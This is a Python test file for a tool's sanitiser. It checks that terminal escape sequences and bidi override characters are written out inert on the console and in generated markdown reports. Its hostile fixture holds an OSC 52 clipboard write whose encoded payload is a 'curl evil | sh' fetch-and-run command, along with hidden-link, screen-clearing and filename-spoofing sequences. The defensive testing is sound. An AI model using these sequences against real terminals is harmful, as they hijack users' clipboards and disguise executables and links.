"""What the kit did not write reaches a terminal and a markdown file inert: escapes, controls and bidi written out.

The fault: a program's exit message, a record's reason and a file's name went
raw to the console and into matrix.md, so an OSC 52 sequence wrote the
reader's clipboard, an OSC 8 one hid a link, a CSI one cleared the screen, and
U+202E showed ``exe.txt`` for ``txt.exe``. A check's echoed output was already
safe (tests/faults/test_terminal_escapes.py); everything else now goes through
the same rule, `kit.markdown_text.inert`: the command line's stdout, stderr and
log (`kit.inert_console`), and every markdown file the kit writes.
docs/faults.md, "Untrusted input and the kit's folders".
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from kit import cli
from kit.run import runner
from tests.fake_index import refused_url
from tests.faults.script_checks import prepared_here
from tests.record_samples import fixture_matrix, make_record

# OSC 52 (clipboard), OSC 8 (a hidden link), CSI (clear the screen), a bell, an 8-bit CSI, a right-to-left override.
HOSTILE = ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]8;;https://example.invalid\x07link\x1b]8;;\x07 "
           "\x1b[2J\x1b[H \x07 \x9b31m \u202etxt.exe")
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def test_inert_writes_out_every_control_and_reordering_character() -> None:
    from kit.markdown_text import code, inert, text  # here: the tests below must fail on their own without it

    shown = inert(HOSTILE)
    assert shown == (r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]8;;https://example.invalid\x07link\x1b]8;;\x07 "
                     r"\x1b[2J\x1b[H \x07 \x9b31m \u202etxt.exe")
    assert inert(shown) == shown  # once is enough, twice changes nothing
    assert inert("tab\tand\nnewline, é, 日本") == "tab\tand\nnewline, é, 日本"
    assert inert("\x1b[31mred\x1b[0m", colours=True) == "\x1b[31mred\x1b[0m"  # a check's echoed colours
    assert inert("\x1b[31mred\x1b[0m") == r"\x1b[31mred\x1b[0m"  # anywhere else: written out
    assert not RAW.search(text(HOSTILE)) and not RAW.search(code(HOSTILE))


def _matrix_file(tmp_path: Path, script: str) -> Path:
    (tmp_path / "hostile.py").write_text(script)
    path = tmp_path / "matrix.toml"
    path.write_text(f'[kit]\nresults_dir = "results"\nenvs_dir = "envs"\n[install]\nindex_url = "{refused_url()}"\n'
                    '[[release]]\nversion = "0.6.0"\n[checks.hostile]\nscript = "hostile.py"\ntimeout_s = 60\n')
    return path


def test_a_programs_exit_message_reaches_the_console_written_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    # Its own verdict's reason, through the kit's protocol (KIT_RESULT), as a check by kitcheck.finish writes it.
    matrix = _matrix_file(tmp_path, "import json, os\n"
                          f"json.dump({{'verdict': 'affected', 'reason': {HOSTILE!r}}}, open(os.environ['KIT_RESULT'], 'w'))\n"
                          "raise SystemExit(1)\n")
    monkeypatch.setattr(runner, "prepare_environment", lambda *args, **kwargs: prepared_here(tmp_path))
    logged: list[str] = []
    code = cli.main(["run", "hostile", "0.6.0"], log=logged.append, matrix_path=str(matrix))
    out, err = capsys.readouterr()
    assert code == 0, (out, err, logged)  # the check ran: a verdict
    record = json.loads(next((tmp_path / "results").glob("hostile-*.json")).read_text())
    assert "\x1b]52" in record["reason"]  # the record keeps what the program said, as JSON escapes it
    shown = out + err + "\n".join(logged)
    assert r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" in shown and r"\u202etxt.exe" in shown
    assert not RAW.search(shown), RAW.search(shown)  # was: the raw sequences, obeyed by the terminal


def test_a_records_reason_and_a_file_name_reach_the_console_and_matrix_md_written_out(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    matrix = tmp_path / "matrix.toml"
    matrix.write_text(fixture_matrix("0.4.35"))
    results = tmp_path / "results"
    results.mkdir()
    hostile: dict[str, Any] = make_record(status="crashed", verdict=None, reason=HOSTILE)  # a crash's cell says why
    (results / "scaling-0.4.35.json").write_text(json.dumps(hostile))
    (results / f"bad-{HOSTILE[:12]}\u202e.json").write_text("not json")  # an unusable file, named as it is
    logged: list[str] = []
    assert cli.main(["report", "--results", str(results), "--out", str(tmp_path / "out"), "--no-plots"],
                    log=logged.append, matrix_path=str(matrix)) == 0
    out, err = capsys.readouterr()
    shown = out + err + "\n".join(logged)
    assert r"bad-\x1b]52;c;Y3Vyb\u202e.json" in shown  # the skipped file, named written out
    assert not RAW.search(shown), RAW.search(shown)
    markdown = (tmp_path / "out" / "matrix.md").read_text(encoding="utf-8")
    assert "Y3VybCBldmlsIHwgc2g=" in markdown  # the reason is there, written out
    assert not RAW.search(markdown), RAW.search(markdown)  # was: the raw sequences, for `cat matrix.md` to obey
